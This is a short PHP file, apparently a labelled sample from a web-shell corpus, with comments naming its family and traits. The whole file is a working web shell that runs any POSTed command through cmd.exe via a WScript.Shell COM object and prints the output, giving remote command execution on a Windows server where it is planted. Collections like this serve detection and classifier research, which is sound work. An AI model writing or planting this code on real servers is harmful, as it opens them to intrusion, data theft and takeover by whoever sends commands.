<?php
// Family: webshell/exec-request
// Style: Windows command runner through a COM shell object
// Trait: WScript.Shell created with new COM, its exec() given cmd.exe /c and a posted command, output read back
$c = isset($_POST['c']) ? $_POST['c'] : 'ver';
$sh = new COM('WScript.Shell');
$proc = $sh->exec('cmd.exe /c ' . $c);
echo '<pre>' . htmlspecialchars($proc->StdOut->ReadAll()) . '</pre>';
